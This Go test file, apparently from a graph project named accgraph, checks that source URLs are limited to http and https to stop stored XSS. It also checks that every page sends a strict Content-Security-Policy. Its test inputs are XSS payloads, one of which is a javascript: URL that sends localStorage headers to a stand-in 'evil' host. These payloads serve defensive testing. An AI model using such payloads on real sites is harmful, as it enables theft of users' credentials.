package reliability

import (
	"context"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/accgraph/accgraph/graph"
	"github.com/accgraph/accgraph/graph/graphtest"
	"github.com/accgraph/accgraph/seed"
)

// TestSourceURLsAreWebLinks is issue 17, item 2 (stored XSS): a source's URL becomes a
// link on every page that shows the source, so only http and https URLs are stored, by
// the mutation, the seed loader and the importers alike.
func TestSourceURLsAreWebLinks(t *testing.T) {
	db := graphtest.MustOpenDB(t)
	key := seedWithKey(t, db, "desk")
	srv := serve(t, db, nil)
	client := &http.Client{Timeout: 10 * time.Second}
	bad := []string{"javascript:fetch('//evil/'+localStorage['accgraph:headers'])", "JavaScript:alert(1)",
		"data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x", "/explore"}

	for _, u := range bad {
		m := `mutation($url: String) { addSource(input: {id: "source:evil", name: "Evil", kind: "UN_DOCUMENT", title: "Report",
			publisher: "United Nations", url: $url, citations: [{source: "source:ncri-factions-collaborate",
			quote: "Special Rapporteur on Iran Human Rights", claimedBy: "org:united-nations", confidence: REPORTED}]}) { id url } }`
		a := post(t, client, srv.URL(), map[string]any{"query": m, "variables": map[string]any{"url": u}}, key)
		if a.code() != "BAD_USER_INPUT" || !strings.Contains(a.Raw, "url") {
			t.Errorf("addSource(url: %q) = %d %.300s, want BAD_USER_INPUT naming url", u, a.Status, a.Raw)
		}
	}
	if a := post(t, client, srv.URL(), map[string]any{"query": `{ entity(id: "source:evil") { id } }`}, ""); a.Data["entity"] != nil {
		t.Errorf("a refused source was stored: %s", a.Raw)
	}

	// the seed loader and the importers validate with the same rules
	ds, err := seed.Load(seed.Data())
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ds.Entities {
		if s, ok := e.(*graph.Source); ok {
			s.URL = bad[0]
			break
		}
	}
	if _, err := db.Write(context.Background(), ds); err == nil || !strings.Contains(err.Error(), "url") {
		t.Errorf("writing a dataset with a javascript: source URL: %v, want a problem naming url", err)
	}
	line := `{"type":"node","labels":["Source"],"properties":{"id":"source:evil","kind":"UN_DOCUMENT","title":"t","publisher":"p","url":"javascript:alert(1)"}}`
	if _, _, err := seed.ImportJSONL(context.Background(), db, "evil.jsonl", strings.NewReader(line)); err == nil || !strings.Contains(err.Error(), "evil.jsonl:1: url") {
		t.Errorf("import jsonl of a javascript: source URL: %v, want evil.jsonl:1: url", err)
	}
	if a := post(t, client, srv.URL(), map[string]any{"query": `{ entity(id: "source:evil") { id } }`}, ""); a.Data["entity"] != nil {
		t.Errorf("an imported javascript: source was stored: %s", a.Raw)
	}
}

// TestEveryPageSendsTheSamePolicy is issue 17, item 2: /explore/index.html was served
// without the Content-Security-Policy /explore had. Every route that serves a page or a
// page's file sends the same strict policy, nosniff and frame-ancestors 'none'; the API's
// answers send a policy that loads nothing.
func TestEveryPageSendsTheSamePolicy(t *testing.T) {
	srv := serve(t, graphtest.MustOpenDB(t), nil)
	client := &http.Client{Timeout: 10 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	head := func(path string) http.Header {
		resp, err := client.Get(srv.URL() + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		resp.Body.Close()
		return resp.Header
	}
	policy := head("/explore").Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'self'", "frame-ancestors 'none'", "object-src 'none'", "base-uri 'none'", "script-src 'self'"} {
		if !strings.Contains(policy, want) {
			t.Errorf("the pages' policy %q lacks %s", policy, want)
		}
	}
	if strings.Contains(policy, "unsafe-eval") || strings.Contains(policy, "script-src 'self' 'unsafe-inline'") {
		t.Errorf("the pages' policy %q lets scripts run from strings or inline", policy)
	}
	for _, path := range []string{"/", "/explore", "/explore/index.html", "/explore/explore.js", "/explore/explore.css",
		"/explore/no-such-file", "/graphiql", "/graphiql/graphiql.min.js", "/graphiql/plugins.js", "/favicon.ico"} {
		h := head(path)
		if got := h.Get("Content-Security-Policy"); got != policy {
			t.Errorf("%s: Content-Security-Policy %q, want the pages' %q", path, got, policy)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q", path, h.Get("X-Content-Type-Options"))
		}
	}
	for _, path := range []string{"/graphql?query=%7B__typename%7D", "/saved", "/healthz", "/metrics"} {
		h := head(path)
		if got := h.Get("Content-Security-Policy"); !strings.Contains(got, "default-src 'none'") || !strings.Contains(got, "frame-ancestors 'none'") {
			t.Errorf("%s: Content-Security-Policy %q, want default-src 'none' and frame-ancestors 'none'", path, got)
		}
		if h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options %q", path, h.Get("X-Content-Type-Options"))
		}
	}
}
